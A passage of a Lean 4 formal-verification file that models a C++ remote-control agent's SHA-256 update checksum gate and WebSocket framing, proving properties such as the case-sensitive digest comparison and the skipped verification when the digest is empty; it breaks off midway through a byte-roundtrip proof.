import Mathlib

/-
  Verification of the screen_control agent runtime against its specification.

  The development shallowly embeds the relevant parts of the C++ source:

  * the update pipeline checksum gate
    (src/service/src/update/update_manager.cpp, verifyChecksum / downloadUpdate
    / checkForUpdate),
  * the outgoing WebSocket frame builder and the receive loop
    (src/service/src/control_server/websocket_client.cpp),
  * the relay callback table (relayCommand / handleRelayResponse / disconnect),
  * the shell tools (src/service/src/tools/shell_tools.cpp),
  * the command dispatcher (src/service/src/control_server/command_dispatcher.cpp),
  * the permission latch (handleHeartbeatAck).

  C++ byte buffers and std::string values are embedded as List Nat (byte
  sequences); machine integers are Nat with explicit reductions modulo 2^32 or
  2^64 where the source relies on fixed-width arithmetic.
-/

/-! ## Byte-string helpers -/

/-- Bytes of a string literal, used to write concrete byte-sequence inputs.
A C++ std::string is a byte sequence; this converts a Lean string literal of
ASCII characters to the corresponding byte list. -/
def strBytes (s : String) : List Nat := s.toList.map Char.toNat

/-! ## SHA-256

The update pipeline hashes the downloaded artifact with SHA-256 (OpenSSL
SHA256_Init / SHA256_Update / SHA256_Final on POSIX, BCrypt on Windows) and
renders the digest as lowercase hex.  The hash function itself is embedded
here following FIPS 180-4, operating on byte lists. -/

def w32 : Nat := 4294967296

def rotr32 (n x : Nat) : Nat := ((x >>> n) ||| (x <<< (32 - n))) % w32

def sha256K : List Nat :=
  [1116352408, 1899447441, 3049323471, 3921009573, 961987163,
   1508970993, 2453635748, 2870763221, 3624381080, 310598401,
   607225278, 1426881987, 1925078388, 2162078206, 2614888103,
   3248222580, 3835390401, 4022224774, 264347078, 604807628,
   770255983, 1249150122, 1555081692, 1996064986, 2554220882,
   2821834349, 2952996808, 3210313671, 3336571891, 3584528711,
   113926993, 338241895, 666307205, 773529912, 1294757372,
   1396182291, 1695183700, 1986661051, 2177026350, 2456956037,
   2730485921, 2820302411, 3259730800, 3345764771, 3516065817,
   3600352804, 4094571909, 275423344, 430227734, 506948616,
   659060556, 883997877, 958139571, 1322822218, 1537002063,
   1747873779, 1955562222, 2024104815, 2227730452, 2361852424,
   2428436474, 2756734187, 3204031479, 3329325298]

structure Hash8 where
  a : Nat
  b : Nat
  c : Nat
  d : Nat
  e : Nat
  f : Nat
  g : Nat
  h : Nat
deriving DecidableEq

def sha256Init : Hash8 :=
  ⟨1779033703, 3144134277, 1013904242, 2773480762,
   1359893119, 2600822924, 528734635, 1541459225⟩

/-- Big-endian 8-byte rendering of a 64-bit value (the message bit length). -/
def beBytes8 (n : Nat) : List Nat :=
  (List.range 8).map (fun i => n / 256 ^ (7 - i) % 256)

def padMessage (msg : List Nat) : List Nat :=
  let L := msg.length
  let zeros := (120 - (L + 1) % 64) % 64
  msg ++ 0x80 :: List.replicate zeros 0 ++ beBytes8 (8 * L)

def toWords : List Nat → List Nat
  | a :: b :: c :: d :: rest => (((a * 256 + b) * 256 + c) * 256 + d) :: toWords rest
  | _ => []

def toBlocks16 : List Nat → List (List Nat)
  | w0 :: w1 :: w2 :: w3 :: w4 :: w5 :: w6 :: w7 ::
    w8 :: w9 :: w10 :: w11 :: w12 :: w13 :: w14 :: w15 :: rest =>
      [w0, w1, w2, w3, w4, w5, w6, w7, w8, w9, w10, w11, w12, w13, w14, w15] :: toBlocks16 rest
  | _ => []

def smallSigma0 (x : Nat) : Nat := rotr32 7 x ^^^ rotr32 18 x ^^^ (x >>> 3)

def smallSigma1 (x : Nat) : Nat := rotr32 17 x ^^^ rotr32 19 x ^^^ (x >>> 10)

def schedule (block : List Nat) : List Nat :=
  (List.range 48).foldl
    (fun ws _ =>
      let n := ws.length
      ws ++ [(ws.getD (n - 16) 0 + smallSigma0 (ws.getD (n - 15) 0) +
              ws.getD (n - 7) 0 + smallSigma1 (ws.getD (n - 2) 0)) % w32])
    block

def compressStep (st : Hash8) (kw : Nat × Nat) : Hash8 :=
  let s1 := rotr32 6 st.e ^^^ rotr32 11 st.e ^^^ rotr32 25 st.e
  let ch := (st.e &&& st.f) ^^^ ((0xFFFFFFFF ^^^ st.e) &&& st.g)
  let temp1 := (st.h + s1 + ch + kw.1 + kw.2) % w32
  let s0 := rotr32 2 st.a ^^^ rotr32 13 st.a ^^^ rotr32 22 st.a
  let maj := (st.a &&& st.b) ^^^ (st.a &&& st.c) ^^^ (st.b &&& st.c)
  let temp2 := (s0 + maj) % w32
  ⟨(temp1 + temp2) % w32, st.a, st.b, st.c, (st.d + temp1) % w32, st.e, st.f, st.g⟩

def compress (h0 : Hash8) (block : List Nat) : Hash8 :=
  let ws := schedule block
  let fin := (sha256K.zip ws).foldl compressStep h0
  ⟨(h0.a + fin.a) % w32, (h0.b + fin.b) % w32, (h0.c + fin.c) % w32, (h0.d + fin.d) % w32,
   (h0.e + fin.e) % w32, (h0.f + fin.f) % w32, (h0.g + fin.g) % w32, (h0.h + fin.h) % w32⟩

def beBytes4 (n : Nat) : List Nat :=
  [n / 16777216 % 256, n / 65536 % 256, n / 256 % 256, n % 256]

/-- SHA-256 digest (32 bytes) of a byte sequence. -/
def sha256 (msg : List Nat) : List Nat :=
  let hf := (toBlocks16 (toWords (padMessage msg))).foldl compress sha256Init
  beBytes4 hf.a ++ beBytes4 hf.b ++ beBytes4 hf.c ++ beBytes4 hf.d ++
  beBytes4 hf.e ++ beBytes4 hf.f ++ beBytes4 hf.g ++ beBytes4 hf.h

/-- Lowercase hex digit of a nibble, as the source renders it with
std::hex and std::setfill.  48 is the code of the zero digit, 87 + 10 is the
code of the letter a. -/
def hexCode (n : Nat) : Nat :=
  if n < 10 then 48 + n else 87 + n

/-- The digest rendered as the byte sequence of its lowercase hex string,
mirroring the stringstream loop in UpdateManager::verifyChecksum. -/
def sha256hex (msg : List Nat) : List Nat :=
  (sha256 msg).flatMap (fun b => [hexCode (b / 16), hexCode (b % 16)])

/-- Test vector: SHA-256 of the empty input. -/
theorem sha256hex_nil :
    sha256hex [] = strBytes "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855" := by
  decide

/-- Test vector: SHA-256 of the three bytes of the string abc. -/
theorem sha256hex_abc :
    sha256hex (strBytes "abc") =
      strBytes "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad" := by
  decide

/-! ## Update pipeline checksum gate

Embedding of UpdateManager::verifyChecksum and of the tail of the download
worker in UpdateManager::downloadUpdate (update_manager.cpp lines 303 to 342):
after the HTTP download finishes, the checksum is verified; on failure the
status becomes FAILED and the function returns before any installation; on
success the status becomes DOWNLOADED and applyUpdate is invoked exactly when
autoInstall or isForced holds. -/

inductive UpdateStatus where
  | IDLE
  | CHECKING
  | AVAILABLE
  | DOWNLOADING
  | DOWNLOADED
  | INSTALLING
  | FAILED
  | UP_TO_DATE
deriving DecidableEq

/-- UpdateManager::verifyChecksum: an empty expected digest skips
verification and returns true; otherwise the lowercase hex digest of the file
content is compared with the expected digest byte for byte. -/
def verifyChecksum (file : List Nat) (expectedSha256 : List Nat) : Bool :=
  if expectedSha256.isEmpty then true
  else sha256hex file == expectedSha256

/-- Outcome of the download worker: the update status it leaves behind and
whether applyUpdate (installation) was invoked. -/
structure DownloadOutcome where
  status : UpdateStatus
  installAttempted : Bool
deriving DecidableEq

/-- Tail of UpdateManager::downloadUpdate after httpDownload returns:
failure or cancellation gives FAILED; a checksum mismatch gives FAILED with no
installation; otherwise DOWNLOADED, and applyUpdate runs iff autoInstall or
isForced. -/
def downloadUpdate (downloadSuccess cancelled : Bool) (file : List Nat)
    (sha256field : List Nat) (autoInstall isForced : Bool) : DownloadOutcome :=
  if !downloadSuccess || cancelled then ⟨.FAILED, false⟩
  else if !(verifyChecksum file sha256field) then ⟨.FAILED, false⟩
  else ⟨.DOWNLOADED, autoInstall || isForced⟩

/-- UpdateManager::checkForUpdate reads the manifest field with
j.value("sha256", ""), so a missing field becomes the empty digest. -/
def shaFromManifest (field : Option (List Nat)) : List Nat := field.getD []

/-- Case-insensitive equality of hex digests, written from the words of the
specification (compare byte-for-byte, case-insensitive hex) to be compared
with what the source does. -/
def lowerByte (b : Nat) : Nat := if 65 ≤ b ∧ b ≤ 90 then b + 32 else b

def specCaseInsensitiveEq (x y : List Nat) : Bool :=
  (x.map lowerByte) == (y.map lowerByte)

/-- Claim C1, counterexample: for the empty artifact and the server-declared
digest written in uppercase hex, the two digests are equal case-insensitively,
yet the pipeline transitions to FAILED and never attempts installation: the
source compares the digests with ==, which is case-sensitive. -/
theorem update_checksum_uppercase_counterexample :
    specCaseInsensitiveEq (sha256hex [])
      (strBytes "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855") = true ∧
    downloadUpdate true false []
      (strBytes "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855")
      true false = ⟨.FAILED, false⟩ := by
  constructor
  · decide
  · decide

/-- Claim C1, amended: installation is attempted iff the server-declared
digest is empty or the lowercase hex SHA-256 of the artifact equals it exactly
(case-sensitively) and auto-install or forced is set; on a nonempty mismatch
the pipeline transitions to FAILED and the artifact is never executed. -/
theorem update_checksum_gate (f d : List Nat) (a fo : Bool) :
    (downloadUpdate true false f d a fo =
      if d = [] ∨ sha256hex f = d then ⟨.DOWNLOADED, a || fo⟩ else ⟨.FAILED, false⟩) ∧
    ((downloadUpdate true false f d a fo).installAttempted = true ↔
      (d = [] ∨ sha256hex f = d) ∧ (a || fo) = true) := by
  have hgate : downloadUpdate true false f d a fo =
      if d = [] ∨ sha256hex f = d then ⟨.DOWNLOADED, a || fo⟩ else ⟨.FAILED, false⟩ := by
    unfold downloadUpdate verifyChecksum
    rcases Decidable.em (d = []) with hd | hd
    · subst hd
      simp
    · simp only [List.isEmpty_iff, hd, if_false, Bool.not_eq_true]
      rcases Decidable.em (sha256hex f = d) with hs | hs
      · simp [hs]
      · have : (sha256hex f == d) = false := by
          simp [beq_eq_false_iff_ne, hs]
        simp [this, hd, hs]
  refine ⟨hgate, ?_⟩
  rw [hgate]
  rcases Decidable.em (d = [] ∨ sha256hex f = d) with h | h
  · simp [h]
  · simp [h]

/-- Claim C10: when the server-declared digest is empty, verifyChecksum
returns true for every file content (no hashing can influence the result),
the manifest parser maps a missing sha256 field to the empty digest, and the
artifact reaches DOWNLOADED and proceeds to installation whenever auto-install
or forced is set, with no checksum verification at all. -/
theorem update_empty_digest_skips_verification (f : List Nat) (a fo : Bool) :
    verifyChecksum f [] = true ∧
    shaFromManifest none = [] ∧
    downloadUpdate true false f [] a fo = ⟨.DOWNLOADED, a || fo⟩ := by
  refine ⟨rfl, rfl, ?_⟩
  unfold downloadUpdate
  simp [verifyChecksum]

/-! ## Outgoing WebSocket frames

Embedding of WebSocketClient::sendWebSocketFrame (websocket_client.cpp lines
506 to 551): a single frame with FIN and the text opcode, the RFC 6455
payload-length encoding, a 4-byte masking key and the masked payload.  The
masking key is passed as a parameter standing for the four random bytes the
source draws.  parseFrame is written from the words of RFC 6455 and of the
specification, to re-parse what the builder produces. -/

/-- The masking loop: byte i of the body is XORed with key byte i mod 4.
Written with an explicit offset so that it is structurally recursive; the
source loop starts at offset 0. -/
def maskBytes (key : List Nat) : Nat → List Nat → List Nat
  | _, [] => []
  | off, b :: bs => (b ^^^ key.getD (off % 4) 0) :: maskBytes key (off + 1) bs

/-- WebSocketClient::sendWebSocketFrame: byte 0x81 (FIN plus text opcode),
the mask-bit-tagged length encoding (7-bit below 126, 16-bit big-endian for
up to 65535, else 64-bit big-endian), the 4 key bytes, then the masked
payload. -/
def sendWebSocketFrame (payload mask : List Nat) : List Nat :=
  let len := payload.length
  let lenB :=
    if len ≤ 125 then [0x80 ||| len]
    else if len ≤ 65535 then [0x80 ||| 126, (len >>> 8) &&& 0xFF, len &&& 0xFF]
    else (0x80 ||| 127) :: (List.range 8).map (fun i => (len >>> ((7 - i) * 8)) &&& 0xFF)
  0x81 :: (lenB ++ (mask ++ maskBytes mask 0 payload))

/-- A parsed frame in the sense of RFC 6455. -/
structure WsFrame where
  fin : Bool
  opcode : Nat
  masked : Bool
  maskKey : List Nat
  payload : List Nat
deriving DecidableEq

/-- RFC 6455 extended payload length: a 7-bit length below 126 stands for
itself, 126 announces a 16-bit big-endian length, 127 a 64-bit big-endian
length. -/
def parseExtLen (len7 : Nat) (rest : List Nat) : Option (Nat × List Nat) :=
  if len7 ≤ 125 then some (len7, rest)
  else if len7 = 126 then
    match rest with
    | a :: b :: r => some (a * 256 + b, r)
    | _ => none
  else
    match rest with
    | a :: b :: c :: d :: e :: f :: g :: h :: r =>
        some (((((((a * 256 + b) * 256 + c) * 256 + d) * 256 + e) * 256 + f) * 256 + g)
                * 256 + h, r)
    | _ => none

def parseBody (b0 b1 : Nat) (rest : List Nat) : Option WsFrame :=
  match parseExtLen (b1 &&& 0x7F) rest with
  | none => none
  | some (len, r1) =>
    if (b1 &&& 0x80) != 0 then
      if r1.length = 4 + len then
        some ⟨(b0 &&& 0x80) != 0, b0 &&& 0x0F, true, r1.take 4,
              maskBytes (r1.take 4) 0 (r1.drop 4)⟩
      else none
    else
      if r1.length = len then
        some ⟨(b0 &&& 0x80) != 0, b0 &&& 0x0F, false, [], r1⟩
      else none

/-- Parse one complete RFC 6455 frame that occupies the whole byte sequence. -/
def parseFrame : List Nat → Option WsFrame
  | b0 :: b1 :: rest => parseBody b0 b1 rest
  | _ => none

theorem maskBytes_length (key : List Nat) (off : Nat) (bs : List Nat) :
    (maskBytes key off bs).length = bs.length := by
  induction bs generalizing off with
  | nil => rfl
  | cons b bs ih => simp [maskBytes, ih]

theorem maskBytes_involutive (key : List Nat) (off : Nat) (bs : List Nat) :
    maskBytes key off (maskBytes key off bs) = bs := by
  induction bs generalizing off with
  | nil => rfl
  | cons b bs ih => simp [maskBytes, ih, Nat.xor_cancel_right]

theorem and_255_eq_mod (x : Nat) : x &&& 255 = x % 256 := by
  have h := Nat.and_pow_two_sub_one_eq_mod x 8
  norm_num at h
  exact h

theorem lor128_and128 : ∀ n < 128, (128 ||| n) &&& 128 = 128 := by decide

theorem lor128_and127 : ∀ n < 128, (128 ||| n) &&& 127 = n := by decide

/-- Claim C4: for every payload and every 4-byte masking key (the key the
source draws at random), the frame produced by sendWebSocketFrame re-parses
under RFC 6455 with FIN set, text opcode 1, the mask bit set, the 4-byte
masking key, the RFC 6455 payload-length encoding, and a masked body that
unmasks to the original payload.  The length bound reflects the 64-bit
size_t of the source. -/
theorem sendWebSocketFrame_parse (payload mask : List Nat)
    (hm : mask.length = 4) (hlen : payload.length < 2 ^ 64) :
    parseFrame (sendWebSocketFrame payload mask) =
      some ⟨true, 1, true, mask, payload⟩ := by
  have h129m : (129 &&& 128 : Nat) = 128 := by decide
  have h129o : (129 &&& 15 : Nat) = 1 := by decide
  have hl : (mask ++ maskBytes mask 0 payload).length = 4 + payload.length := by
    simp [maskBytes_length, hm]
  have ht : List.take 4 (mask ++ maskBytes mask 0 payload) = mask := List.take_left' hm
  have hdrop : List.drop 4 (mask ++ maskBytes mask 0 payload) = maskBytes mask 0 payload :=
    List.drop_left' hm
  have hd2 : maskBytes mask 0 (maskBytes mask 0 payload) = payload :=
    maskBytes_involutive mask 0 payload
  by_cases h1 : payload.length ≤ 125
  · have hb1m : ((0x80 ||| payload.length) &&& 0x80) = 128 :=
      lor128_and128 payload.length (by omega)
    have hb17 : ((0x80 ||| payload.length) &&& 0x7F) = payload.length :=
      lor128_and127 payload.length (by omega)
    simp only [sendWebSocketFrame, h1, if_true, List.cons_append, List.nil_append]
    simp only [parseFrame, parseBody, parseExtLen, hb17, h1, if_true, hb1m]
    simp [hl, ht, hdrop, hd2, h129m, h129o]
  · by_cases h2 : payload.length ≤ 65535
    · have e254 : (0x80 ||| 126 : Nat) = 254 := by decide
      have h254m : (254 &&& 0x80 : Nat) = 128 := by decide
      have h2547 : (254 &&& 0x7F : Nat) = 126 := by decide
      have hhi : (payload.length >>> 8) &&& 0xFF = payload.length / 256 := by
        rw [Nat.shiftRight_eq_div_pow, and_255_eq_mod]
        have : payload.length / 2 ^ 8 < 256 := by omega
        omega
      have hlo : payload.length &&& 0xFF = payload.length % 256 := and_255_eq_mod _
      have hre : payload.length / 256 * 256 + payload.length % 256 = payload.length := by
        omega
      simp only [sendWebSocketFrame, h1, if_false, h2, if_true, e254,
                 List.cons_append, List.nil_append]
      simp only [parseFrame, parseBody, parseExtLen, h2547, h254m]
      norm_num
      simp only [hhi, hlo, hre]
      simp [hl, ht, hdrop, hd2, h129m, h129o, maskBytes_length, hm]
    · have e255 : (0x80 ||| 127 : Nat) = 255 := by decide
      have h255m : (255 &&& 0x80 : Nat) = 128 := by decide
      have h2557 : (255 &&& 0x7F : Nat) = 127 := by decide
      have hbyte : ∀ k : Nat, payload.length >>> k &&& 255 =
          payload.length / 2 ^ k % 256 := by
        intro k
        rw [Nat.shiftRight_eq_div_pow, and_255_eq_mod]
      have hr8 : (List.range 8) = [0, 1, 2, 3, 4, 5, 6, 7] := by decide
      simp only [sendWebSocketFrame, h1, if_false, h2, if_false, e255, hr8,
                 List.map_cons, List.map_nil, List.cons_append, List.nil_append]
      simp only [parseFrame, parseBody, parseExtLen, h2557, h255m]
      simp only [hbyte]
      norm_num
      have hre : ((((((payload.length / 2 ^ 56 % 256 * 256 +
          payload.length / 2 ^ 48 % 256) * 256 +
          payload.length / 2 ^ 40 % 256) * 256 +
          payload.length / 2 ^ 32 % 256) * 256 +
          payload.length / 2 ^ 24 % 256) * 256 +
          payload.length / 2 ^ 16 % 256) * 256 +
          payload.length / 2 ^ 8 % 256) * 256 +
          payload.length % 256 = payload.length := by
        omega
      norm_num at hre
      rw [hre]
      simp [hl, ht, hdrop, hd2, h129m, h129o, maskBytes_length, hm]

/-- Witness for claim C4 at a concrete payload and key. -/
theorem sendWebSocketFrame_parse_witness :
    parseFrame (sendWebSocketFrame (strBytes "hi") [7, 11, 13, 17]) =
      some ⟨true, 1, true, [7, 11, 13, 17], strBytes "hi"⟩ :=
  sendWebSocketFrame_parse (strBytes "hi") [7, 11, 13, 17] (by decide) (by decide)

/-! ## Receive loop

Embedding of the frame-parsing part of WebSocketClient::receiveLoop
(websocket_client.cpp lines 744 to 814).  Each loop iteration calls sslRead
into a buffer local to the loop and parses that buffer from the start; every
continue path discards the bytes of the current read.  processRead maps the
bytes returned by one sslRead to the externally visible event of that
iteration; runReads chains iterations, stopping at a close frame.  The four
random mask bytes the source draws for a pong reply are the pongMask
parameter.  serverLenBytes and serverFrame build an unmasked server-side
frame following RFC 6455, to state what the loop does on well-formed
input. -/

inductive RecvEvent where
  | silent
  | deliver (payload : List Nat)
  | closed
  | pongSent (frame : List Nat)
deriving DecidableEq

def processRead (pongMask : List Nat) (buf : List Nat) : RecvEvent :=
  if buf.length < 2 then .silent
  else
    let b0 := buf.getD 0 0
    let b1 := buf.getD 1 0
    let opcode := b0 &&& 0x0F
    let masked := (b1 &&& 0x80) != 0
    let len0 := b1 &&& 0x7F
    let stage : Option (Nat × Nat) :=
      if len0 = 126 then
        if buf.length < 4 then none
        else some (((buf.getD 2 0) <<< 8) ||| buf.getD 3 0, 4)
      else if len0 = 127 then
        if buf.length < 10 then none
        else some ((List.range 8).foldl (fun acc i => (acc <<< 8) ||| buf.getD (2 + i) 0) 0, 10)
      else some (len0, 2)
    match stage with
    | none => .silent
    | some (payloadLen, maskOffset) =>
      let headerLen := if masked then maskOffset + 4 else maskOffset
      if buf.length < headerLen + payloadLen then .silent
      else
        let payload := (List.range payloadLen).map (fun i =>
          let byte := buf.getD (headerLen + i) 0
          if masked then byte ^^^ buf.getD (maskOffset + i % 4) 0 else byte)
        if opcode = 1 then .deliver payload
        else if opcode = 8 then .closed
        else if opcode = 9 then .pongSent (0x8A :: 0x80 :: pongMask)
        else .silent

def runReads (pongMask : List Nat) : List (List Nat) → List RecvEvent
  | [] => []
  | r :: rest =>
    let e := processRead pongMask r
    if e = RecvEvent.closed then [e] else e :: runReads pongMask rest

def serverLenBytes (len : Nat) : List Nat :=
  if len ≤ 125 then [len]
  else if len ≤ 65535 then [126, (len >>> 8) &&& 0xFF, len &&& 0xFF]
  else 127 :: (List.range 8).map (fun i => (len >>> ((7 - i) * 8)) &&& 0xFF)

def serverFrame (opcode : Nat) (payload : List Nat) : List Nat :=
  (0x80 ||| opcode) :: (serverLenBytes payload.length ++ payload)

theorem or_shiftLeft8_add (a b : Nat) (hb : b < 256) : (a <<< 8) ||| b = a * 256 + b := by
  apply Nat.eq_of_testBit_eq
  intro i
  rw [Nat.testBit_or, Nat.testBit_shiftLeft]
  generalize hx : a * 256 + b = x
  have hxa : a = x / 256 := by omega
  have hxb : b = x % 256 := by omega
  have h256 : (256 : Nat) = 2 ^ 8 := by norm_num
  rw [hxa, hxb, h256]
  by_cases hi : 8 ≤ i
  · have hmod : (x % 2 ^ 8).testBit i = false := by
      rw [Nat.testBit_mod_two_pow]
      simp [show ¬ i < 8 by omega]
    rw [hmod, Bool.or_false]
    have hd : (decide (i ≥ 8)) = true := by simpa using hi
    rw [hd, Bool.true_and, ← Nat.shiftRight_eq_div_pow, Nat.testBit_shiftRight]
    congr 1
    omega
  · have hd : (decide (i ≥ 8)) = false := by simpa using hi
    rw [hd, Bool.false_and, Bool.false_or, Nat.testBit_mod_two_pow]
    simp [show i < 8 by omega]

theorem map_range_getD (l : List Nat) :
    (List.range l.length).map (fun i => l.getD i 0) = l := by
  induction l with
  | nil => rfl
  | cons a l ih =>
    rw [List.length_cons, List.range_succ_eq_map, List.map_cons, List.map_map]
    have h : ∀ i ∈ List.range l.length,
        ((fun i => (a :: l).getD i 0) ∘ Nat.succ) i = l.getD i 0 := by
      intro i _
      simp [Function.comp, List.getD_cons_succ]
    rw [List.map_congr_left h, ih]
    rfl

theorem map_range_getD_append (pre l : List Nat) :
    (List.range l.length).map (fun i => (pre ++ l).getD (pre.length + i) 0) = l := by
  have h : ∀ i ∈ List.range l.length, (pre ++ l).getD (pre.length + i) 0 = l.getD i 0 := by
    intro i _
    rw [List.getD_eq_getElem?_getD, List.getD_eq_getElem?_getD,
        List.getElem?_append_right (by omega), Nat.add_sub_cancel_left]
  rw [List.map_congr_left h, map_range_getD]

theorem lor128_and15 : ∀ n < 16, (128 ||| n) &&& 15 = n := by decide

theorem small_and128 : ∀ n < 128, n &&& 128 = 0 := by decide

theorem small_and127 : ∀ n < 128, n &&& 127 = n := by decide

theorem processRead_serverFrame (pongMask : List Nat) (op : Nat) (hop : op < 16)
    (payload : List Nat) (hlen : payload.length < 2 ^ 64) :
    processRead pongMask (serverFrame op payload) =
      if op = 1 then .deliver payload
      else if op = 8 then .closed
      else if op = 9 then .pongSent (0x8A :: 0x80 :: pongMask)
      else .silent := by
  have hand15 : (128 ||| op) &&& 15 = op := lor128_and15 op hop
  by_cases h1 : payload.length ≤ 125
  · have hfr : serverFrame op payload = (128 ||| op) :: payload.length :: payload := by
      simp [serverFrame, serverLenBytes, h1]
    have hm : payload.length &&& 128 = 0 := small_and128 _ (by omega)
    have h127 : payload.length &&& 127 = payload.length := small_and127 _ (by omega)
    have hext := map_range_getD_append [128 ||| op, payload.length] payload
    simp only [List.length_cons, List.length_nil, List.cons_append, List.nil_append] at hext
    norm_num at hext
    rw [hfr]
    simp only [processRead, List.length_cons]
    rw [if_neg (show ¬ (payload.length + 1 + 1 < 2) by omega)]
    norm_num [hand15, hm, h127]
    rw [if_neg (show ¬ (payload.length = 126) by omega),
        if_neg (show ¬ (payload.length = 127) by omega)]
    norm_num
    rw [if_neg (show ¬ (payload.length + 1 + 1 < 2 + payload.length) by omega)]
    rw [hext]
  · by_cases h2 : payload.length ≤ 65535
    · have e1 : ((126 : Nat) &&& 127) = 126 := by decide
      have e2 : ((126 : Nat) &&& 128) = 0 := by decide
      have hfr : serverFrame op payload =
          (128 ||| op) :: 126 :: (payload.length / 256) :: (payload.length % 256) :: payload := by
        have hhi : (payload.length >>> 8) &&& 0xFF = payload.length / 256 := by
          rw [Nat.shiftRight_eq_div_pow, and_255_eq_mod]
          have : payload.length / 2 ^ 8 < 256 := by omega
          omega
        have hlo : payload.length &&& 0xFF = payload.length % 256 := and_255_eq_mod _
        simp [serverFrame, serverLenBytes, h1, h2, hhi, hlo]
      have hor : ((payload.length / 256) <<< 8) ||| (payload.length % 256) = payload.length := by
        rw [or_shiftLeft8_add (payload.length / 256) (payload.length % 256)
              (Nat.mod_lt _ (by norm_num))]
        omega
      have hext := map_range_getD_append
        [128 ||| op, 126, payload.length / 256, payload.length % 256] payload
      simp only [List.length_cons, List.length_nil, List.cons_append, List.nil_append] at hext
      norm_num at hext
      rw [hfr]
      simp only [processRead, List.length_cons]
      rw [if_neg (show ¬ (payload.length + 1 + 1 + 1 + 1 < 2) by omega)]
      norm_num [hand15, e1, e2]
      rw [if_neg (show ¬ (payload.length + 1 + 1 + 1 + 1 < 4) by omega)]
      norm_num [hor]
      rw [if_neg (show ¬ (payload.length + 1 + 1 + 1 + 1 < 4 + payload.length) by omega)]
      rw [hext]
    · have f1 : ((127 : Nat) &&& 127) = 127 := by decide
      have f2 : ((127 : Nat) &&& 128) = 0 := by decide
      have hfr : serverFrame op payload =
          (128 ||| op) :: 127 ::
           (payload.length / 72057594037927936 % 256) ::
           (payload.length / 281474976710656 % 256) ::
           (payload.length / 1099511627776 % 256) ::
           (payload.length / 4294967296 % 256) ::
           (payload.length / 16777216 % 256) ::
           (payload.length / 65536 % 256) ::
           (payload.length / 256 % 256) ::
           (payload.length % 256) :: payload := by
        have hbyte : ∀ k : Nat, payload.length >>> k &&& 255 =
            payload.length / 2 ^ k % 256 := by
          intro k
          rw [Nat.shiftRight_eq_div_pow, and_255_eq_mod]
        have hr8 : (List.range 8) = [0, 1, 2, 3, 4, 5, 6, 7] := by decide
        simp only [serverFrame, serverLenBytes, h1, if_false, h2, hr8,
                   List.map_cons, List.map_nil]
        norm_num [hbyte, and_255_eq_mod]
      have hext := map_range_getD_append
        [128 ||| op, 127,
         payload.length / 72057594037927936 % 256,
         payload.length / 281474976710656 % 256,
         payload.length / 1099511627776 % 256,
         payload.length / 4294967296 % 256,
         payload.length / 16777216 % 256,
         payload.length / 65536 % 256,
         payload.length / 256 % 256,
         payload.length % 256] payload
      simp only [List.length_cons, List.length_nil, List.cons_append, List.nil_append] at hext
      norm_num at hext
      rw [hfr]
      simp only [processRead, List.length_cons]
      rw [if_neg (show ¬ (payload.length + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 < 2) by omega)]
      norm_num [hand15, f1, f2]
      rw [if_neg (show ¬ (payload.length + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 < 10) by omega)]
      norm_num
      simp only [← List.getD_eq_getElem?_getD]
      have hfold : (List.range 8).foldl
          (fun acc i =>
            (acc <<< 8) |||
              ((128 ||| op) :: 127 ::
               (payload.length / 72057594037927936 % 256) ::
               (payload.length / 281474976710656 % 256) ::
               (payload.length / 1099511627776 % 256) ::
               (payload.length / 4294967296 % 256) ::
               (payload.length / 16777216 % 256) ::
               (payload.length / 65536 % 256) ::
               (payload.length / 256 % 256) ::
               (payload.length % 256) :: payload).getD (2 + i) 0) 0 = payload.length := by
        have hr8 : (List.range 8) = [0, 1, 2, 3, 4, 5, 6, 7] := by decide
        rw [hr8]
        show ((((((((0 <<< 8 ||| payload.length / 72057594037927936 % 256) <<< 8 |||
          payload.length / 281474976710656 % 256) <<< 8 |||
          payload.length / 1099511627776 % 256) <<< 8 |||
          payload.length / 4294967296 % 256) <<< 8 |||
          payload.length / 16777216 % 256) <<< 8 |||
          payload.length / 65536 % 256) <<< 8 |||
          payload.length / 256 % 256) <<< 8 |||
          payload.length % 256) = payload.length
        rw [or_shiftLeft8_add 0 (payload.length / 72057594037927936 % 256)
              (Nat.mod_lt _ (by norm_num))]
        rw [or_shiftLeft8_add _ (payload.length / 281474976710656 % 256)
              (Nat.mod_lt _ (by norm_num))]
        rw [or_shiftLeft8_add _ (payload.length / 1099511627776 % 256)
              (Nat.mod_lt _ (by norm_num))]
        rw [or_shiftLeft8_add _ (payload.length / 4294967296 % 256)
              (Nat.mod_lt _ (by norm_num))]
        rw [or_shiftLeft8_add _ (payload.length / 16777216 % 256)
              (Nat.mod_lt _ (by norm_num))]
        rw [or_shiftLeft8_add _ (payload.length / 65536 % 256)
              (Nat.mod_lt _ (by norm_num))]
        rw [or_shiftLeft8_add _ (payload.length / 256 % 256)
              (Nat.mod_lt _ (by norm_num))]
        rw [or_shiftLeft8_add _ (payload.length % 256)
              (Nat.mod_lt _ (by norm_num))]
        omega
      rw [hfold]
      rw [if_neg (show ¬ (payload.length + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1
            < 10 + payload.length) by omega)]
      simp only [List.getD_eq_getElem?_getD]
      rw [hext]

theorem be64_roundtrip (n : Nat) (h : n < 2 ^ 64) :
    ((((((((0 <<< 8 ||| n / 72057594037927936 % 256) <<< 8 |||
      n / 281474976710656 % 256) <<< 8 |||
      n / 1099511627776 % 256) <<< 8 |||
      n / 4294967296 % 256) <<< 8 |||
      n / 16777216 % 256) <<< 8 |||
      n / 65536 % 256) <<< 8 |||
      n / 256 % 256) <<< 8 |||
      n % 256) = n := by
  rw [or_shiftLeft8_add 0 (n / 72057594037927936 % 256) (Nat.mod_lt _ (by norm_num))]
  rw [or_shiftLeft8_add _ (n / 281474976710656 % 256) (Nat.mod_lt _ (by norm_num))]
  rw [or_shiftLeft8_add _ (n / 1099511627776 % 256) (Nat.mod_lt _ (by norm_num))]
  rw [or_shiftLeft8_add _ (n / 4294967296 % 256) (Nat.mod_lt _ (by norm_num))]
  rw [or_shiftLeft8_add _ (n / 16777216 % 256) (Nat.mod_lt _ (by norm_num))]
